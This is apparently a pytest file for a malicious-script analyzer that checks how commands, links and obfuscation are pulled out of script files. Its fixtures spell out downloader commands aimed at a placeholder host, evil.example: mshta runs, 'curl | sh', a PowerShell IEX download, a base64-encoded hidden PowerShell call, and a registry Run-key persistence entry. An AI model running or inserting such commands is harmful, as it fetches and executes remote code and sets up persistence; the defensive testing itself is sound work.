"""Scripts that come as files."""

from __future__ import annotations

import base64
import random

import pytest

from sabaki.files import script
from sabaki.files.opened import Asked, Opened

URL = "https://evil.example/p"


def read(content: str | bytes, name: str) -> Opened:
    return script.read(content.encode() if isinstance(content, str) else content, Asked(name))


def details(opened: Opened, id: str) -> list[str]:
    return [trait.detail for trait in opened.traits if trait.id == id]


@pytest.mark.parametrize(
    ("code", "name", "language", "command"),
    [
        (f"var s = new ActiveXObject('WScript.Shell');\ns.Run('mshta {URL}');", "a.js", "JScript", f".Run('mshta {URL}');"),
        (f'Set s = CreateObject("WScript.Shell")\r\ns.Run "mshta {URL}"\r\n', "a.vbs", "VBScript", f'.Run "mshta {URL}"'),
        (f"@echo off\r\ncurl {URL} -o %temp%\\a.exe\r\n", "a.cmd", "Windows batch", f"curl {URL} -o %temp%\\a.exe"),
        (f"$c = New-Object Net.WebClient\nIEX $c.DownloadString('{URL}')", "a.ps1", "PowerShell", f"IEX $c.DownloadString('{URL}')"),
        (f"#!/bin/sh\ncurl {URL} | sh\n", "a", "shell", f"curl {URL} | sh"),
        (f"import os\nos.system('curl {URL}')\n", "a.py", "Python", f"os.system('curl {URL}')"),
        (f"<job><script language='JScript'>x = new ActiveXObject('a'); // {URL}</script></job>", "a.wsf", "Windows Script File",
         f"ActiveXObject('a'); // {URL}</script></job>"),
        (f"REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"mshta {URL}\"\r\n", "a.reg",
         "Windows registry", f"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run: mshta {URL}"),
    ],
)  # fmt: skip
def test_language_command_and_link(code: str, name: str, language: str, command: str) -> None:
    opened = read(code, name)
    assert details(opened, "script")[0].startswith(language)
    assert command in details(opened, "command")
    assert [(link.raw, link.source) for link in opened.links] == [(URL, "script:code")]


def test_encoded_powershell() -> None:
    hidden = base64.b64encode(f"Invoke-WebRequest {URL} -OutFile a.exe".encode("utf-16-le")).decode()
    opened = read(f"@echo off\r\npowershell -nop -w hidden -enc {hidden}\r\n", "a.bat")
    assert [(link.raw, link.source) for link in opened.links] == [(URL, "script:decoded")]
    assert f"Invoke-WebRequest {URL} -OutFile a.exe" in details(opened, "command")
    assert "base64" in details(opened, "obfuscated")


def test_script_encoder() -> None:
    from tests.files.test_encoded import encode

    opened = read(encode(f'CreateObject("WScript.Shell").Run "mshta {URL}"'), "a.vbe")
    assert details(opened, "obfuscated") == ["script encoder"]
    assert [link.raw for link in opened.links] == [URL]
    assert details(opened, "command") == [f'CreateObject("WScript.Shell").Run "mshta {URL}"']


def test_false_byte_order_mark() -> None:
    opened = read(b"\xff\xfe&cls\r\n@echo off\r\ncurl https://evil.example/p\r\n", "a.bat")
    assert "a false byte order mark before single bytes" in details(opened, "obfuscated")
    assert [link.raw for link in opened.links] == [URL]


def test_a_program_in_the_code_becomes_a_child() -> None:
    program = b"MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0" + b"\0" * 200
    opened = read(f"$b = [Convert]::FromBase64String('{base64.b64encode(program).decode()}')", "a.ps1")
    assert opened.children[0].content == program
    assert "base64" in details(opened, "obfuscated")


def test_signs_of_unreadable_code() -> None:
    names = ";".join(f"_0x{number:04x}=1" for number in range(30))
    assert script.signs(names) == ["names replaced by numbers"]
    assert script.signs("(" + "[]+!" * 200 + ")") == ["written in brackets only"]
    assert script.signs("function add(a, b) { return a + b; }") == []


def test_an_honest_script_is_no_more_than_a_script() -> None:
    opened = read("'use strict';\nconst sum = (a, b) => a + b;\nconsole.log(sum(1, 2));\n", "a.js")
    assert [trait.id for trait in opened.traits] == ["script"]


def test_utf16_script() -> None:
    opened = read(f'\ufeffOn Error Resume Next\r\nx = "{URL}"'.encode("utf-16-le"), "a.vbs")
    assert [link.raw for link in opened.links] == [URL]


def test_never_raises_on_damage() -> None:
    dice = random.Random(9)
    whole = f"@echo off\r\nset x=abc\r\npowershell -enc {base64.b64encode(b'x' * 60).decode()} %x:~1,1% ^^^ {URL}\r\n".encode()
    for end in range(0, len(whole), 3):
        read(whole[:end], "a.bat")
    for _ in range(200):
        broken = bytearray(whole)
        for _ in range(5):
            broken[dice.randrange(len(broken))] = dice.randrange(256)
        read(bytes(broken), dice.choice(("a.bat", "a.js", "a.reg", "a.vbe")))
